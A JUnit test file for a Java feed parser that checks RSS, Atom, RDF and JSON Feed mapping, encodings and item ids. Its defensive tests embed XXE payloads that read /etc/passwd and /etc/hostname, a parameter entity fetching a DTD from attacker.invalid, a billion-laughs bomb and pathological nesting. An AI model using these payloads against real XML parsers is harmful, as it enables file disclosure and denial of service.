package org.copydesk.plugins.rss;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.copydesk.api.Document;
import org.copydesk.api.FormatException;
import org.copydesk.api.Payload;
import org.copydesk.api.Settings;
import org.junit.jupiter.api.Test;

class RssFormatTest {
    private static final Instant RECEIVED = Instant.parse("2026-01-02T03:04:05Z");
    private final RssFormat format = new RssFormat("auto");

    private static Payload payload(String text) {
        return new Payload(text.getBytes(StandardCharsets.UTF_8), "https://example.org/feed", RECEIVED);
    }

    @Test
    void rss20ItemMapsEveryField() throws Exception {
        String feed = """
                <?xml version="1.0" encoding="UTF-8"?>
                <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
                     xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
                <channel>
                  <title>Example Wire</title><link>https://example.org/</link><language>en-us</language>
                  <item>
                    <title>Harbour reopens after &lt;b&gt;storm&lt;/b&gt;</title>
                    <link>https://example.org/2026/harbour</link>
                    <guid isPermaLink="false">example-123</guid>
                    <description>Short summary.</description>
                    <content:encoded><![CDATA[<p>First paragraph with <a href="x">a link</a>.</p><div>Second&nbsp;one.</div><script>x()</script>]]></content:encoded>
                    <pubDate>Tue, 06 Jan 2026 14:30:00 +0100</pubDate>
                    <dc:creator>Jane Reporter</dc:creator>
                    <category>Weather</category><category>Ports</category>
                    <enclosure url="https://example.org/a.mp3" type="audio/mpeg" length="1234"/>
                    <media:content url="https://example.org/p.jpg" medium="image" width="640" height="480"/>
                  </item>
                </channel></rss>
                """;
        List<Document> docs = format.parse(payload(feed));
        assertThat(docs).hasSize(1);
        Document d = docs.get(0);
        assertThat(d.headline()).isEqualTo("Harbour reopens after storm");
        assertThat(d.uri()).isEqualTo("https://example.org/2026/harbour");
        assertThat(d.id()).isEqualTo("example-123");
        assertThat(d.body()).isEqualTo("First paragraph with a link.\n\nSecond one.");
        assertThat(d.meta().get("html")).asString().contains("<p>First paragraph");
        assertThat(d.published()).isEqualTo("2026-01-06T14:30:00+01:00");
        assertThat(d.byline()).isEqualTo("Jane Reporter");
        assertThat(d.meta().get("subjects")).isEqualTo(List.of("Weather", "Ports"));
        @SuppressWarnings("unchecked")
        List<Map<String, Object>> media = (List<Map<String, Object>>) d.meta().get("media");
        assertThat(media).hasSize(2);
        assertThat(media.get(0)).containsEntry("url", "https://example.org/a.mp3").containsEntry("type", "audio/mpeg")
                .containsEntry("length", 1234L);
        assertThat(media.get(1)).containsEntry("url", "https://example.org/p.jpg").containsEntry("medium", "image")
                .containsEntry("width", 640L);
        assertThat(d.distributor()).isEqualTo("Example Wire");
        assertThat(d.language()).isEqualTo("en-US");
        assertThat(d.source().uri()).isEqualTo("https://example.org/feed");
        assertThat(d.source().format()).isEqualTo("rss");
        assertThat(d.source().received()).isEqualTo(RECEIVED);
        assertThat(d.warnings()).isEmpty();
    }

    @Test
    void bodyFromDescriptionSetting() throws Exception {
        String feed = """
                <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>T</title>
                <item><title>A</title><description>Short summary.</description>
                <content:encoded>&lt;p&gt;Long content text here.&lt;/p&gt;</content:encoded></item></channel></rss>
                """;
        assertThat(new RssFormat("description").parse(payload(feed)).get(0).body()).isEqualTo("Short summary.");
        assertThat(new RssFormat("content").parse(payload(feed)).get(0).body()).isEqualTo("Long content text here.");
        assertThat(new RssFormat("auto").parse(payload(feed)).get(0).body()).isEqualTo("Long content text here.");
    }

    @Test
    void atom10Entries() throws Exception {
        String feed = """
                <feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de">
                  <title type="html">Beispiel &amp;amp; Co</title>
                  <id>urn:feed</id><updated>2026-02-01T10:00:00Z</updated>
                  <entry>
                    <title>Erster</title><id>tag:example.org,2026:1</id>
                    <link rel="alternate" href="https://example.org/1"/>
                    <published>2026-02-01T09:15:30.5-05:00</published><updated>2026-02-01T10:00:00Z</updated>
                    <author><name>Max Muster</name></author><author><name>Erika Muster</name></author>
                    <category term="Politik"/>
                    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Eins.</p><p>Zwei.</p></div></content>
                  </entry>
                  <entry><title>Zweiter</title><id>tag:example.org,2026:2</id><summary>Nur Text.</summary>
                    <updated>2026-02-02</updated></entry>
                </feed>
                """;
        List<Document> docs = format.parse(payload(feed));
        assertThat(docs).hasSize(2);
        Document d = docs.get(0);
        assertThat(d.id()).isEqualTo("tag:example.org,2026:1");
        assertThat(d.uri()).isEqualTo("https://example.org/1");
        assertThat(d.published()).isEqualTo("2026-02-01T09:15:30.5-05:00");
        assertThat(d.meta()).containsEntry("updated", "2026-02-01T10:00:00Z");
        assertThat(d.byline()).isEqualTo("Max Muster, Erika Muster");
        assertThat(d.body()).isEqualTo("Eins.\n\nZwei.");
        assertThat(d.meta().get("subjects")).isEqualTo(List.of("Politik"));
        assertThat(d.distributor()).isEqualTo("Beispiel & Co");
        assertThat(d.language()).isEqualTo("de");
        assertThat(docs.get(1).body()).isEqualTo("Nur Text.");
        assertThat(docs.get(1).published()).isEqualTo("2026-02-02");
    }

    @Test
    void atomEntryDocument() throws Exception {
        String entry = "<entry xmlns=\"http://www.w3.org/2005/Atom\"><title>Alone</title><id>urn:x:1</id>"
                + "<updated>2026-02-02T10:00:00+02:00</updated><content type=\"text\">Just one.</content></entry>";
        List<Document> docs = format.parse(payload(entry));
        assertThat(docs).singleElement().satisfies(d -> {
            assertThat(d.headline()).isEqualTo("Alone");
            assertThat(d.id()).isEqualTo("urn:x:1");
            assertThat(d.published()).isEqualTo("2026-02-02T10:00:00+02:00");
            assertThat(d.body()).isEqualTo("Just one.");
        });
    }

    @Test
    void rss10Rdf() throws Exception {
        String feed = """
                <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
                         xmlns:dc="http://purl.org/dc/elements/1.1/">
                  <channel rdf:about="https://example.org/"><title>RDF site</title><link>https://example.org/</link>
                    <description>d</description><dc:language>fr</dc:language></channel>
                  <item rdf:about="https://example.org/a"><title>Un</title><link>https://example.org/a</link>
                    <dc:date>2026-03-04T05:06:07+02:00</dc:date><dc:creator>Marie</dc:creator>
                    <dc:subject>Culture</dc:subject><description>Texte.</description></item>
                </rdf:RDF>
                """;
        Document d = format.parse(payload(feed)).get(0);
        assertThat(d.headline()).isEqualTo("Un");
        assertThat(d.id()).isEqualTo("https://example.org/a");
        assertThat(d.meta().get("subjects")).isEqualTo(List.of("Culture"));
        assertThat(d.uri()).isEqualTo("https://example.org/a");
        assertThat(d.published()).isEqualTo("2026-03-04T05:06:07+02:00");
        assertThat(d.byline()).isEqualTo("Marie");
        assertThat(d.language()).isEqualTo("fr");
        assertThat(d.distributor()).isEqualTo("RDF site");
    }

    @Test
    void jsonFeed11() throws Exception {
        String feed = """
                {"version": "https://jsonfeed.org/version/1.1", "title": "JSON Wire", "language": "en",
                 "items": [{"id": 42, "url": "https://example.org/j", "title": "Hello",
                   "content_html": "<p>One.</p><p>Two.</p>", "summary": "S",
                   "date_published": "2026-04-05T06:07:08+09:00", "authors": [{"name": "Ann"}],
                   "tags": ["a", "b"], "attachments": [{"url": "https://example.org/v.mp4", "mime_type": "video/mp4",
                   "size_in_bytes": 99}]}]}
                """;
        Document d = format.parse(payload(feed)).get(0);
        assertThat(d.id()).isEqualTo("42");
        assertThat(d.headline()).isEqualTo("Hello");
        assertThat(d.body()).isEqualTo("One.\n\nTwo.");
        assertThat(d.published()).isEqualTo("2026-04-05T06:07:08+09:00");
        assertThat(d.byline()).isEqualTo("Ann");
        assertThat(d.language()).isEqualTo("en");
        assertThat(d.distributor()).isEqualTo("JSON Wire");
        assertThat(d.meta().get("subjects")).isEqualTo(List.of("a", "b"));
        assertThat(d.meta().get("media")).asString().contains("video/mp4");
        assertThat(d.meta().get("feed_type")).isEqualTo("json_1.1");
    }

    @Test
    void refusesExternalEntities() {
        String xxe = """
                <?xml version="1.0"?>
                <!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
                <rss version="2.0"><channel><title>&xxe;</title><item><title>&xxe;</title></item></channel></rss>
                """;
        assertThatThrownBy(() -> format.parse(payload(xxe))).isInstanceOf(FormatException.class)
                .hasMessageContaining("external entity").hasMessageContaining("refused");
        String parameter = """
                <!DOCTYPE rss [ <!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote; ]>
                <rss version="2.0"><channel><title>t</title><item><title>ok</title></item></channel></rss>
                """;
        // the external DTD is never loaded: the DOCTYPE is dropped and the feed read without it
        assertThat(assertDoesNotReadFiles(parameter)).isEqualTo("ok");
    }

    @Test
    void doctypeAfterStrayTextNeverExpandsEntities() throws Exception {
        String feed = "junk before the prolog\n<!DOCTYPE rss [ <!ENTITY xxe SYSTEM \"file:///etc/hostname\"> ]>"
                + "<rss version=\"2.0\"><channel><title>t</title><item><title>a &xxe; b</title></item></channel></rss>";
        String headline = assertDoesNotReadFiles(feed);
        assertThat(headline).satisfiesAnyOf(
                h -> assertThat(h).startsWith("refused"),
                h -> assertThat(h).isEqualTo("a &xxe; b"));
    }

    private String assertDoesNotReadFiles(String feed) {
        try {
            return format.parse(payload(feed)).get(0).headline();
        } catch (FormatException e) {
            return "refused: " + e.getMessage();
        }
    }

    @Test
    void refusesBillionLaughs() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE rss [ <!ENTITY lol \"lol\">");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"");
            for (int j = 0; j < 10; j++) {
                dtd.append("&lol").append(i == 1 ? "" : String.valueOf(i - 1)).append(';');
            }
            dtd.append("\">");
        }
        dtd.append("]>");
        String bomb = dtd + "<rss version=\"2.0\"><channel><item><title>&lol9;</title></item></channel></rss>";
        assertThatThrownBy(() -> format.parse(payload(bomb))).isInstanceOf(FormatException.class)
                .hasMessageContaining("entity expansion");
    }

    @Test
    void pathologicalNestingIsRefusedQuickly() {
        String deep = "<rss version=\"2.0\"><channel><item><title>x</title>" + "<a>".repeat(50_000) + "y"
                + "</a>".repeat(50_000) + "</item></channel></rss>";
        org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(java.time.Duration.ofSeconds(10), () ->
                assertThatThrownBy(() -> format.parse(payload(deep))).isInstanceOf(FormatException.class)
                        .hasMessageContaining("nested over"));
        String escaped = "<rss version=\"2.0\"><channel><item><title>x</title><description>"
                + "&lt;b&gt;".repeat(50_000) + "y" + "&lt;/b&gt;".repeat(50_000) + "</description></item></channel></rss>";
        org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(java.time.Duration.ofSeconds(10), () ->
                assertThat(format.parse(payload(escaped)).get(0).body()).isEqualTo("y"));
    }

    private static String brokenFeed(int items, String description) {
        StringBuilder b = new StringBuilder("<rss version=\"2.0\"><channel><title>T</title>");
        for (int i = 0; i < items; i++) {
            b.append("<item><guid>g").append(i).append("</guid><title>Item ").append(i).append("</title><description>")
                    .append(description).append("</description></item>");
        }
        return b.append("</channel></rss>").toString();
    }

    @Test
    void rawHtmlVoidTagsInAnIllFormedFeedAreNoNestingLevels() throws Exception {
        // review 5 #5: every unclosed <br> counted one level deeper for the rest of the document, so a broken feed
        // of 127 items with two <br> each was refused as "XML nested over 256 levels deep"
        for (int items : new int[] {10, 127, 200}) {
            List<Document> docs = format.parse(payload(brokenFeed(items,
                    "Line one<br>line two<BR>three <img src=\"a.png\" alt=\"x > y\"> four<hr>")));
            assertThat(docs).as(items + " items").hasSize(items);
            assertThat(docs.get(items - 1).headline()).isEqualTo("Item " + (items - 1));
            assertThat(docs.get(items - 1).body()).contains("Line one").contains("three").contains("four");
        }
        // another unclosed tag costs one level until its parent closes, not one for the rest of the document
        assertThat(format.parse(payload(brokenFeed(300, "<b>bold, never closed")))).hasSize(300);
        // unclosed tags that never close are still counted
        String unclosed = "<rss version=\"2.0\"><channel><item><title>x</title>" + "<a>".repeat(300) + "</item>";
        assertThatThrownBy(() -> format.parse(payload(unclosed))).isInstanceOf(FormatException.class)
                .hasMessageContaining("nested over");
    }

    @Test
    void aCommentWithAnApostropheInTheDoctypesInternalSubsetIsNoUnterminatedString() throws Exception {
        // review 5 #5 (probe d1.xml): the quote in the comment was taken for a string delimiter
        String feed = "<?xml version=\"1.0\"?><!DOCTYPE rss [<!-- the site's entities --><!ENTITY copy2 \"(c)\">"
                + "]><rss version=\"2.0\"><channel><title>T</title><item><guid>1</guid>"
                + "<title>A &copy2; B</title></item></channel></rss>";
        assertThat(format.parse(payload(feed))).extracting(Document::headline).containsExactly("A (c) B");
        // and in a processing instruction
        assertThat(format.parse(payload(feed.replace("<!-- the site's entities -->", "<?note it's ours?>"))))
                .extracting(Document::headline).containsExactly("A (c) B");
        assertThatThrownBy(() -> format.parse(payload("<!DOCTYPE rss [<!-- never closed <rss version=\"2.0\"/>")))
                .isInstanceOf(FormatException.class).hasMessageContaining("unterminated XML DOCTYPE");
    }

    @Test
    void simpleInternalEntityIsExpanded() throws Exception {
        String feed = "<!DOCTYPE rss [ <!ENTITY org \"Example Org\"> ]><rss version=\"2.0\"><channel><title>t</title>"
                + "<item><title>News from &org;</title></item></channel></rss>";
        assertThat(format.parse(payload(feed)).get(0).headline()).isEqualTo("News from Example Org");
    }

    @Test
    void rejectsWhatIsNotAFeed() throws Exception {
        assertThatThrownBy(() -> format.parse(payload("<html><body><p>hi</p></body></html>")))
                .isInstanceOf(FormatException.class).hasMessage("not a feed: root element <html>");
        assertThatThrownBy(() -> format.parse(payload(""))).isInstanceOf(FormatException.class).hasMessage("empty file");
        assertThatThrownBy(() -> format.parse(payload("   \n"))).isInstanceOf(FormatException.class).hasMessage("empty document");
        assertThatThrownBy(() -> format.parse(payload("{\"a\":1}"))).isInstanceOf(FormatException.class)
                .hasMessageContaining("JSON Feed");
        // A valid feed without items is not an error: it simply holds no stories.
        assertThat(format.parse(payload("<rss version=\"2.0\"><channel><title>t</title></channel></rss>"))).isEmpty();
        assertThatThrownBy(() -> format.parse(payload("plain text"))).isInstanceOf(FormatException.class)
                .hasMessageContaining("not a feed");
    }

    @Test
    void illFormedFeedIsReadLenientlyWithAWarning() throws Exception {
        String feed = "<rss version=\"2.0\"><channel><title>Fish & Chips</title><item><title>Caf&eacute; open"
                + "</title><link>https://example.org/?a=1&b=2</link><description>unclosed <b>bold</description></item>"
                + "<item><title>Second</title></item></channel></rss";
        List<Document> docs = format.parse(payload(feed));
        assertThat(docs).hasSize(2);
        assertThat(docs.get(0).headline()).isEqualTo("Café open");
        assertThat(docs.get(0).uri()).isEqualTo("https://example.org/?a=1&b=2");
        assertThat(docs.get(0).distributor()).isEqualTo("Fish & Chips");
        assertThat(docs.get(1).warnings()).singleElement().satisfies(w ->
                assertThat(w.message()).contains("not well-formed").contains("parsed leniently"));
    }

    @Test
    void encodingsFromHeaderDeclarationAndDetection() throws Exception {
        String feed = "<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><rss version=\"2.0\"><channel><title>t</title>"
                + "<item><title>Gr\u00fc\u00dfe \u201cquoted\u201d</title></item></channel></rss>";
        byte[] latin = feed.getBytes(Charset.forName("windows-1252"));
        Payload p = new Payload(latin, "f", RECEIVED);
        assertThat(format.parse(p).get(0).headline()).isEqualTo("Gr\u00fc\u00dfe \u201cquoted\u201d");
        String noDecl = "<rss version=\"2.0\"><channel><title>t</title><item><title>\u65e5\u672c</title></item></channel></rss>";
        Payload sjis = new Payload(noDecl.getBytes(Charset.forName("Shift_JIS")), "f", RECEIVED,
                "application/rss+xml; charset=Shift_JIS", Map.of());
        assertThat(format.parse(sjis).get(0).headline()).isEqualTo("\u65e5\u672c");
        byte[] utf16 = ("\ufeff" + noDecl).getBytes(StandardCharsets.UTF_16LE);
        assertThat(format.parse(new Payload(utf16, "f", RECEIVED)).get(0).headline()).isEqualTo("\u65e5\u672c");
    }

    @Test
    void aLatin1LabelIsOverruledOnlyForValidMultiByteUtf8ThatDeclaresUtf8OrNothing() throws Exception {
        String item = "<rss version=\"2.0\"><channel><title>t</title><item><title>Caf\u00e9 \u201cq\u201d</title>"
                + "<guid>g</guid></item></channel></rss>";
        for (String label : List.of("ISO-8859-1", "us-ascii", "windows-1252", "latin1")) {
            for (String decl : List.of("", "<?xml version=\"1.0\" encoding=\"utf-8\"?>")) {
                Payload p = new Payload((decl + item).getBytes(StandardCharsets.UTF_8), "https://ex.org/f", RECEIVED,
                        "text/xml; charset=" + label, Map.of());
                Document d = format.parse(p).get(0);
                assertThat(d.headline()).as(label + " " + decl).isEqualTo("Caf\u00e9 \u201cq\u201d");
                assertThat(d.warnings()).as(label + " " + decl).hasSize(1);
            }
        }
        // Latin-1 bytes (not valid UTF-8), a declaration of another charset, and pure ASCII keep the HTTP label
        Payload latin = new Payload(item.getBytes(Charset.forName("windows-1252")), "f", RECEIVED,
                "text/xml; charset=ISO-8859-1", Map.of());
        assertThat(format.parse(latin).get(0).headline()).isEqualTo("Caf\u00e9 \u201cq\u201d");
        assertThat(format.parse(latin).get(0).warnings()).isEmpty();
        String declaredLatin = "<?xml version=\"1.0\" encoding=\"iso-8859-1\"?>" + item;
        Payload mislabelled = new Payload(declaredLatin.getBytes(StandardCharsets.UTF_8), "f", RECEIVED,
                "text/xml; charset=ISO-8859-1", Map.of());
        assertThat(format.parse(mislabelled).get(0).headline()).startsWith("Caf\u00c3\u00a9 \u00e2\u20ac\u0153q");
        assertThat(format.parse(mislabelled).get(0).warnings()).isEmpty();
        Payload ascii = new Payload(item.replace("\u00e9", "e").replace("\u201c", "").replace("\u201d", "")
                .getBytes(StandardCharsets.UTF_8), "f", RECEIVED, "text/xml; charset=ISO-8859-1", Map.of());
        assertThat(format.parse(ascii).get(0).warnings()).isEmpty();
    }

    @Test
    void factoryDeclaresSettings() throws Exception {
        RssFormatFactory factory = new RssFormatFactory();
        assertThat(factory.type()).isEqualTo("rss");
        assertThat(factory.settings()).extracting(s -> s.name()).containsExactly("body_from");
        assertThat(factory.create(null, Settings.empty())).isInstanceOf(RssFormat.class);
    }

    @Test
    void itemsWithoutAGuidThatShareALinkGetIdsOfTheirOwn() throws Exception {
        // review 5 #11: without a guid the id was the link alone, so items pointing at one page shared an id
        String feed = """
                <rss version="2.0"><channel><title>Desk</title><link>https://ex.org/</link>
                <item><title>Second story</title><link>https://ex.org/news</link>
                  <pubDate>Tue, 06 Jan 2026 15:00:00 +0000</pubDate><description>Two.</description></item>
                <item><title>First story</title><link>https://ex.org/news</link>
                  <pubDate>Tue, 06 Jan 2026 14:00:00 +0000</pubDate><description>One.</description></item>
                </channel></rss>""";
        List<Document> docs = format.parse(payload(feed));
        assertThat(docs).extracting(Document::id).doesNotHaveDuplicates()
                .allSatisfy(id -> assertThat(id).matches("https://ex\\.org/news#copydesk-item-[0-9a-f]{16}"));
        assertThat(docs).extracting(Document::uri).containsOnly("https://ex.org/news");
        // stable: the same item gives the same id at every poll, whatever body_from is, and whatever date the feed
        // stamps on it (review 6: generated feeds without guids give the time of the request as pubDate)
        assertThat(new RssFormat("description").parse(payload(feed))).extracting(Document::id)
                .containsExactlyElementsOf(docs.stream().map(Document::id).toList());
        assertThat(format.parse(payload(feed.replace("15:00:00", "23:59:59").replace("14:00:00", "23:59:58"))))
                .extracting(Document::id).containsExactlyElementsOf(docs.stream().map(Document::id).toList());
        // a corrected text is a new version of the item: a new id
        List<String> corrected = format.parse(payload(feed.replace("Two.", "Two, corrected."))).stream()
                .map(Document::id).toList();
        assertThat(corrected.get(0)).isNotEqualTo(docs.get(0).id());
        assertThat(corrected.get(1)).isEqualTo(docs.get(1).id());
        // only-ids keeps exactly the item named, not every item sharing its link
        Payload only = new Payload(feed.getBytes(StandardCharsets.UTF_8), "https://example.org/feed", RECEIVED, null,
                java.util.Map.of(ItemIds.ONLY_IDS, ItemIds.toJson(List.of(docs.get(1).id()))));
        assertThat(format.parse(only)).extracting(Document::headline).containsExactly("First story");
        // a guid is still the id as it is
        assertThat(format.parse(payload(feed.replace("<title>First story</title>",
                "<title>First story</title><guid>g-1</guid>"))).get(1).id()).isEqualTo("g-1");
        // JSON Feed items without an id, sharing a url, too
        String json = """
                {"version": "https://jsonfeed.org/version/1.1", "title": "Desk", "items": [
                 {"url": "https://ex.org/news", "title": "Second story", "content_text": "Two."},
                 {"url": "https://ex.org/news", "title": "First story", "content_text": "One."}]}""";
        assertThat(format.parse(payload(json))).extracting(Document::id).doesNotHaveDuplicates()
                .allSatisfy(id -> assertThat(id).startsWith("https://ex.org/news#copydesk-item-"));
    }
}
